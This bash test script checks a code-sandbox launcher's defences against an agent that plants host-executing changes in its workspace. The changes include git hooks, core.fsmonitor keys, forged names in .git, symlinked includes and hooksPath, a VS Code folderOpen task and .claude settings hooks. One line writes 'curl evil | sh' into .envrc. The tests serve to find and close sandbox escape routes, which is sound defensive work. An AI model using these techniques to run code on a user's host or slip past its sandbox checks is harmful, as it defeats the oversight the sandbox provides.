#!/usr/bin/env bash
# Attacks on bin/code-sandbox-pivots (review7): changes the agent makes in
# the workspace that survive on the host. Each attack is one test whose
# assertion is the SECURE outcome (so "not ok" = the attack got through),
# next to its control (the same change without the trick is caught).
# Same harness as tests/launcher/pivots.sh: a fake engine whose `run` plays
# the agent on the host (FAKE_AGENT, run in the workspace).
#   SOURCE_DIR=/work/wt-review7 bash tests/launcher/pivots-fastpath-attacks.sh
# At main 9b5e36c (about 3 minutes, F7 is slow): every control passes,
# every attack fails. Fast path: F1 (a nested repository under the top
# node_modules), F2 (an include's symlink in node_modules), F3 (a missing
# include target below depth 5), F9/F9b (a forged line in .git's name list:
# a new config.worktree or commondir), F10 (a symlinked ~/.gitconfig at the
# next start). Full check (so the fast path too): F4 (a search-only
# directory), F5 (a symlinked core.hooksPath), F6 (a nested repository's
# config.worktree), F7 (MAX_FILES truncation). Concurrency (not new): F8.
# tests/pivots/fastpath-attacks-container.sh: F9b and F10 with the real image.
# The agents' commands are single-quoted on purpose (they run in the workspace).
# shellcheck disable=SC2016
set -uo pipefail
SOURCE_DIR=${SOURCE_DIR:-$(cd "$(dirname "$0")/../.." && pwd)}
# shellcheck source=../support/tap.sh
. "$SOURCE_DIR/tests/support/tap.sh"
PIVOTS_HARNESS_NAME=cs-review7-attacks
# shellcheck source=tests/launcher/pivots-harness.sh
. "$SOURCE_DIR/tests/launcher/pivots-harness.sh"

# --- F1 (fast path): nested repositories, node_modules ---------------------
# The full check's walk (nested_file) once skipped its prunes at depth 1
# (find -mindepth 2), so node_modules/pkg/.git was a nested repository for
# it but not for the fingerprint walk. Now both prune node_modules at every
# depth (SECURITY.md: nested repositories "node_modules skipped"), and a
# repository the agent nests anywhere else is caught on both paths.
f1_setup() { mkdir -p "$P/node_modules/left-pad" "$P/vendor" && echo x >"$P/node_modules/left-pad/index.js"; }
F1_AGENT='git init -q vendor/evil && printf "[core]\n\tfsmonitor = touch /tmp/pwned\n" >>vendor/evil/.git/config && printf "#!/bin/sh\ntouch /tmp/pwned\n" >vendor/evil/.git/hooks/post-checkout'
fresh f1_setup
fast "$F1_AGENT; $(full)"
check "F1 control: a new repository in vendor/ with a hook and core.fsmonitor, full check: exit 109 ($st)" "$st" -eq 109
ok "F1 control:   the hook is reverted" test ! -e "$P/vendor/evil/.git/hooks/post-checkout"
fresh f1_setup
fast "$F1_AGENT"
check "F1 attack: the same with the fast path armed: exit 109 ($st)" "$st" -eq 109
nok "F1 attack:   (the fast path was taken)" fastpath_taken
ok "F1 attack:   the hook is reverted" test ! -e "$P/vendor/evil/.git/hooks/post-checkout"
check "F1 attack:   core.fsmonitor is quarantined" "$(git config --file "$P/vendor/evil/.git/config" core.fsmonitor)" = ""
F1_NM='git init -q node_modules/evil && printf "#!/bin/sh\n" >node_modules/evil/.git/hooks/post-checkout'
fresh f1_setup
fast "$F1_NM; $(full)"
a=$st
fresh f1_setup
fast "$F1_NM"
check "F1: under node_modules (not examined, documented) the full check and the fast path agree ($a, $st)" "$a" = "$st"

# --- F2 (fast path): an include reached through a symlink the walk skips ---
# The roots are the RESOLVED include targets (realpath -m); the links on
# the way are not recorded, and a link under node_modules (pnpm layout) or
# below depth 5 is not in the walk either. Repointing the link makes the
# full check read a new file (all its executing keys added): caught; the
# fingerprint of the old target is unchanged.
f2_setup() {
	mkdir -p "$P/node_modules/.pnpm/gitcfg@1/node_modules/gitcfg" "$P/node_modules/.pnpm/gitcfg@2/node_modules/gitcfg"
	printf '[alias]\n\tst = status\n' >"$P/node_modules/.pnpm/gitcfg@1/node_modules/gitcfg/config"
	ln -s .pnpm/gitcfg@1/node_modules/gitcfg "$P/node_modules/gitcfg"
	git config --file "$P/.git/config" include.path ../node_modules/gitcfg/config
}
F2_AGENT='printf "[core]\n\tfsmonitor = touch /tmp/pwned\n" >node_modules/.pnpm/gitcfg@2/node_modules/gitcfg/config && ln -sfn .pnpm/gitcfg@2/node_modules/gitcfg node_modules/gitcfg.new && mv -T node_modules/gitcfg.new node_modules/gitcfg'
fresh f2_setup
fast "$F2_AGENT; $(full)"
check "F2 control: an included file's link (in node_modules) repointed to one with core.fsmonitor, full check: exit 109 ($st)" "$st" -eq 109
fresh f2_setup
fast "$F2_AGENT"
check "F2 attack: the same with the fast path armed: exit 109 ($st)" "$st" -eq 109
nok "F2 attack:   (the fast path was taken)" fastpath_taken

# --- F3 (fast path): an include whose target is missing at start -----------
# git skips a missing include; the full check reads it once it exists. A
# missing target is no root; its creation is seen only when its directory
# is in the walk (not below depth 5, not under node_modules or .git/X).
f3_setup() {
	mkdir -p "$P/conf/a/b/c/d/e"
	git config --file "$P/.git/config" include.path ../conf/a/b/c/d/e/local.inc
}
F3_AGENT='printf "[core]\n\tfsmonitor = touch /tmp/pwned\n" >conf/a/b/c/d/e/local.inc'
fresh f3_setup
fast "$F3_AGENT; $(full)"
check "F3 control: a missing included file (depth 7) created with core.fsmonitor, full check: exit 109 ($st)" "$st" -eq 109
fresh f3_setup
fast "$F3_AGENT"
check "F3 attack: the same with the fast path armed: exit 109 ($st)" "$st" -eq 109
nok "F3 attack:   (the fast path was taken)" fastpath_taken

# --- F9 (fast path): a forged line in the git directory's name list --------
# The git directory itself is not in the walk (./.git pruned) and its own
# lstat is not recorded: only its names, printed one per line unescaped. A
# name holding a newline prints as two lines; renaming it to its first line
# and creating the second makes the same bytes. Run 1 (checked in full,
# nothing found): extensions.worktreeConfig (an ordinary key) and the name
# "config.worktre<NL>  config.worktree" in .git. Run 2: that name renamed to
# "config.worktre", and .git/config.worktree with core.fsmonitor: the
# fingerprint is byte-identical, the full check would quarantine the key.
F9_RUN1='git config --file .git/config core.repositoryformatversion 1 && git config --file .git/config extensions.worktreeConfig true'
F9_FORGE='n=$(printf "config.worktre\n  config.worktree") && : >".git/$n"'
F9_RUN2='printf "[core]\n\tfsmonitor = touch /tmp/pwned\n" >.git/config.worktree'
fresh
fast "$F9_RUN1"
check "F9 control: run 1 (an ordinary key) exits 0 ($st)" "$st" -eq 0
fast "$F9_RUN2"
check "F9 control: run 2, a new .git/config.worktree with core.fsmonitor: exit 109 ($st)" "$st" -eq 109
fresh
fast "$F9_RUN1 && $F9_FORGE"
check "F9 attack: run 1 (an ordinary key, a file with a newline in its name in .git) exits 0 ($st)" "$st" -eq 0
fast "n=\$(printf \"config.worktre\n  config.worktree\") && mv \".git/\$n\" .git/config.worktre && $F9_RUN2"
check "F9 attack: run 2, the name renamed and .git/config.worktree with core.fsmonitor: exit 109 ($st)" "$st" -eq 109
nok "F9 attack:   (the fast path was taken)" fastpath_taken
fm=$(cd "$P" && git config --get core.fsmonitor 2>/dev/null)
check "F9 attack:   host git in the workspace does not get core.fsmonitor ('$fm')" "$fm" = ""

# F9b: the same with --protect-git-config (every config read-only): no
# config change needed. Run 1 leaves a common directory of its own (evil/:
# objects, refs, a config with core.fsmonitor, a hook) at the top (not a
# pivot) and the name "commondi<NL>  commondir" in .git; run 2 writes
# .git/commondir: host git takes its config and hooks from evil/.
fastp() { # fastp AGENT LAUNCHER-OPTION...
	st=0
	local a=$1
	shift
	cs CODE_SANDBOX_LOG=debug FAKE_AGENT="$a" -- "$@" -- true 2>"$T/err" || st=$?
}
F9B_RUN1='mkdir -p evil/objects evil/refs evil/hooks && printf "[core]\n\trepositoryformatversion = 0\n\tfsmonitor = touch /tmp/pwned\n" >evil/config && printf "#!/bin/sh\ntouch /tmp/pwned\n" >evil/hooks/pre-commit && chmod +x evil/hooks/pre-commit'
F9B_RUN2='echo ../evil >.git/commondir'
fresh
fastp "$F9B_RUN1" --protect-git-config
fastp "$F9B_RUN2" --protect-git-config
check "F9b control: .git/commondir to the agent's evil/ (--protect-git-config): exit 109 ($st)" "$st" -eq 109
fresh
fastp "$F9B_RUN1 && n=\$(printf \"commondi\n  commondir\") && : >\".git/\$n\"" --protect-git-config
check "F9b attack: run 1 exits 0 ($st)" "$st" -eq 0
fastp "n=\$(printf \"commondi\n  commondir\") && mv \".git/\$n\" .git/commondi && $F9B_RUN2" --protect-git-config
check "F9b attack: run 2, .git/commondir to evil/ behind the forged name: exit 109 ($st)" "$st" -eq 109
nok "F9b attack:   (the fast path was taken)" fastpath_taken
fm=$(cd "$P" && git config --get core.fsmonitor 2>/dev/null)
check "F9b attack:   host git in the workspace does not get core.fsmonitor ('$fm')" "$fm" = ""

# --- F10 (fast path, next start): a symlinked global git config ------------
# The fingerprint records the lstat of ~/.gitconfig (find -P): with a
# dotfiles link (~/.gitconfig -> ~/dotfiles/gitconfig) the user's edits to
# it are not seen, and the next start reuses the old mounts. A
# core.hooksPath the user sets there (relative: every repository's
# .githooks) is then not mounted read-only, and the exit check does not
# look into hooks paths (only the mount protects them).
f10() { # f10 link|file: prints whether the next run mounts .githooks read-only
	rm -f "$HOME/.gitconfig"
	mkdir -p "$HOME/dotfiles"
	printf '[user]\n\tname = U\n' >"$HOME/dotfiles/gitconfig"
	if [ "$1" = link ]; then ln -s dotfiles/gitconfig "$HOME/.gitconfig"; else cp "$HOME/dotfiles/gitconfig" "$HOME/.gitconfig"; fi
	fresh
	git config --file "$HOME/dotfiles/gitconfig" core.hooksPath .githooks
	[ "$1" = link ] || cp "$HOME/dotfiles/gitconfig" "$HOME/.gitconfig"
	st=0
	cs CODE_SANDBOX_LOG=debug FAKE_ARGS="$T/args" -- -- true 2>"$T/err" || st=$?
	if grep -qxF -- "--volume=$P/.githooks:/workspace/.githooks:ro" "$T/args"; then echo ro; else echo writable; fi
	rm -f "$HOME/.gitconfig"
}
check "F10 control: core.hooksPath added to a plain ~/.gitconfig: the next run mounts .githooks read-only" "$(f10 file)" = ro
check "F10 attack: the same in a symlinked ~/.gitconfig: the next run mounts .githooks read-only" "$(f10 link)" = ro

# --- F4 (full check): a search-only directory hides the pivot files --------
# pivot_entries lists with find, which cannot read a directory of mode 0111;
# the host tool opens .vscode/tasks.json by name, which works. Needs a
# non-root user (root reads any directory).
f4() { # f4 CHMOD: the run as a non-root user; prints the exit status, then whether the file is still there
	if [ "$(id -u)" = 0 ] && [ -n "$F4_USER" ]; then
		U=$T/u4
		rm -rf "$U" && mkdir -p "$U" && chown "$F4_USER" "$U"
		# From /: the current directory may be one the user cannot enter.
		cd / && runuser -u "$F4_USER" -- env -i PATH=/usr/bin:/bin PVU="$T/pv-user" U="$U" CHM="$1" bash -c '
			set -u
			export HOME=$U/home GIT_CONFIG_NOSYSTEM=1 GIT_CONFIG_GLOBAL=/dev/null
			mkdir -p $HOME $U/st
			git init -q $U/p && mkdir -p $U/p/.vscode && echo "{}" >$U/p/.vscode/settings.json
			PV=$PVU
			$PV prepare $U/p $U/st/pv >/dev/null 2>&1
			printf "{\"tasks\":[{\"label\":\"x\",\"command\":\"touch /tmp/pwned\",\"runOptions\":{\"runOn\":\"folderOpen\"}}]}\n" >$U/p/.vscode/tasks.json
			[ -z "$CHM" ] || chmod "$CHM" $U/p/.vscode
			r=0; $PV check $U/p $U/st/pv --revert >/dev/null 2>&1 || r=$?
			echo $r
			if [ -e $U/p/.vscode/tasks.json ]; then echo kept; else echo reverted; fi
			chmod 755 $U/p/.vscode'
	else
		echo skip
	fi
}
# The test's own user (hermetic: not one of this machine's accounts).
harness_user "cs-pvfa-$$"
F4_USER=$HARNESS_USER
r=$(f4 '')
check "F4 control: a new .vscode/tasks.json (folderOpen) is found and reverted (${r//$'\n'/ })" "${r//$'\n'/ }" = "1 reverted" -o "$r" = skip
r=$(f4 0111)
check "F4 attack: the same, .vscode then made mode 0111: found and reverted (${r//$'\n'/ })" "${r//$'\n'/ }" = "1 reverted" -o "$r" = skip

# --- F5 (full check): core.hooksPath through a symlink ---------------------
# hooks_dirs prints realpath -m of the hooks path: the link's TARGET is
# mounted read-only, the link itself is neither pinned nor checked (the
# `[ -L "$h" ]` branch in cmd_mounts never runs: $h is already resolved).
# Repointing the link to a directory the agent wrote moves host git's hooks.
f5_setup() {
	mkdir -p "$P/tools/hooks"
	printf '#!/bin/sh\nexit 0\n' >"$P/tools/hooks/pre-commit" && chmod +x "$P/tools/hooks/pre-commit"
	ln -s tools/hooks "$P/.githooks"
	git config --file "$P/.git/config" core.hooksPath .githooks
}
fresh f5_setup
m=$(cs -- --dry-run -- true 2>/dev/null)
ok "F5 control: the hooks path's target is mounted read-only" grep -qxF -- "--volume=$P/tools/hooks:/workspace/tools/hooks:ro" <<<"$m"
fast 'mkdir -p build/h && printf "#!/bin/sh\ntouch /tmp/pwned\n" >build/h/pre-commit && chmod +x build/h/pre-commit && ln -sfn build/h .githooks.new && mv -T .githooks.new .githooks'
check "F5 attack: the core.hooksPath link repointed to the agent's hooks: exit 109 ($st)" "$st" -eq 109
check "F5 attack:   the link points where it did" "$(readlink "$P/.githooks")" = tools/hooks

# --- F6 (full check): a nested repository's config.worktree ----------------
# config_files reads DIR/.git/config of nested repositories only; with
# extensions.worktreeConfig (an ordinary key) git also reads
# DIR/.git/config.worktree, where core.fsmonitor runs on every status.
F6_NEST='git init -q vendor/lib && git config --file vendor/lib/.git/config core.repositoryformatversion 1 && git config --file vendor/lib/.git/config extensions.worktreeConfig true'
fresh
fast "$F6_NEST && printf \"[core]\n\tfsmonitor = touch /tmp/pwned\n\" >>vendor/lib/.git/config"
check "F6 control: core.fsmonitor in a new nested repository's config: exit 109 ($st)" "$st" -eq 109
fresh
fast "$F6_NEST && printf \"[core]\n\tfsmonitor = touch /tmp/pwned\n\" >vendor/lib/.git/config.worktree"
check "F6 attack: core.fsmonitor in its config.worktree: exit 109 ($st)" "$st" -eq 109
fm=$(cd "$P/vendor/lib" && git config --get core.fsmonitor 2>/dev/null)
check "F6 attack:   host git in vendor/lib does not get it ('$fm')" "$fm" = ""

# --- F7 (full check): MAX_FILES truncates the manifest ---------------------
# pivot_entries | head -n 5000: entries after the first 5000 (in
# PIVOT_PATHS order, then the hooks) are neither listed nor reverted. The
# agent's 5000 files under .vscode/ are reverted; .claude/settings.json,
# listed later, stays.
fresh
fast 'mkdir -p .vscode/x && i=0; while [ $i -lt 5000 ]; do : >.vscode/x/$i; i=$((i + 1)); done; mkdir -p .claude && echo "{\"hooks\":{\"SessionStart\":[{\"hooks\":[{\"type\":\"command\",\"command\":\"touch /tmp/pwned\"}]}]}}" >.claude/settings.json'
check "F7: exit 109 ($st)" "$st" -eq 109
ok "F7 attack: .claude/settings.json after 5000 junk entries is reverted" test ! -e "$P/.claude/settings.json"

# --- F8 (concurrency, not new): the marker follows the first run only ------
# A second run shares the first's snapshot, but the first one's end
# empties the marker: a third run then takes a new snapshot (and a new
# fingerprint) that absorbs what the second agent wrote so far, and the
# second run's check compares against it.
fresh
sleep 300 & A=$!
sleep 300 & B=$!
sleep 300 & C=$!
"$PV" prepare "$P" "$PST" --pid "$A" >/dev/null 2>&1      # run A starts
"$PV" prepare "$P" "$PST" --pid "$B" >/dev/null 2>"$T/err" # run B starts: shares A's
ok "F8: run B shares run A's snapshot" grep -q 'sharing its start snapshot' "$T/err"
"$PV" check "$P" "$PST" --revert >/dev/null 2>&1 && : >"$PST/running.d/$A" # run A ends (its check, its marker emptied)
echo 'curl evil | sh' >"$P/.envrc"                        # run B's agent
"$PV" prepare "$P" "$PST" --pid "$C" >/dev/null 2>&1      # run C starts
r=0
"$PV" check "$P" "$PST" --revert >/dev/null 2>&1 || r=$?   # run B ends
check "F8 attack: run B's .envrc is found by its exit check (exit $r)" "$r" -eq 1
kill "$A" "$B" "$C" 2>/dev/null
wait 2>/dev/null

tap_done
